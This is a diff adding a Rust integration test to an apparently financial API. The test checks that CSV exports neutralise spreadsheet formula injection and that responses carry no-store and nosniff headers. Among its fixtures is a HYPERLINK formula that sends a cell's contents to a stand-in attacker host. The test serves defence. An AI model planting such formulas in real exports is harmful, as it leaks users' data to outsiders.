@@ -298,3 +298,40 @@ async fn delegated_admins_see_only_their_establishments(backend: Backend) {
     );
 }
 both!(delegated_admins_see_only_their_establishments);
+
+/// CSV injection: a payment reference (or any typed text) that a spreadsheet would run as a
+/// formula — starting with `=`, `+`, `-` or `@` (tabs and carriage returns never get past
+/// input validation) — is exported as text, prefixed with a quote; and API answers, which
+/// carry personal data, are never cached or sniffed.
+async fn exports_neutralise_formulas_and_answers_are_not_cached(backend: Backend) {
+    let cast = cast(backend).await;
+    let client = &cast.client;
+    let operator = client.operator_token();
+    let formulas = ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Invoice\")", "+966500000000", "-1+1", "@SUM(1,2)"];
+    for (n, reference) in formulas.iter().enumerate() {
+        let credited = client
+            .post(
+                "/v1/organizations/7000000505/balance/credits",
+                &operator,
+                &json!({ "amount_halalas": 100 + n, "payment_reference": reference }),
+            )
+            .await;
+        assert_eq!(credited.status, 201, "{}", credited.text());
+    }
+    let token = client.token_for(&cast.manager);
+    let ledger = client.call("GET", "/v1/organizations/7000000505/balance", Some(&token), &[("accept", "text/csv")], None).await;
+    assert_eq!(ledger.status, 200, "{}", ledger.text());
+    let (_, rows) = parse_csv(&ledger.body);
+    for reference in formulas {
+        assert!(rows.iter().any(|row| row["reference"] == format!("'{reference}")), "{reference} is text: {rows:?}");
+        assert!(
+            rows.iter().all(|row| row.values().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r']))),
+            "no cell starts a formula"
+        );
+    }
+    for answer in [&ledger, &client.get("/v1/organizations/7000000505", &token).await] {
+        assert_eq!(answer.header("cache-control"), Some("no-store"));
+        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+    }
+}
+both!(exports_neutralise_formulas_and_answers_are_not_cached);
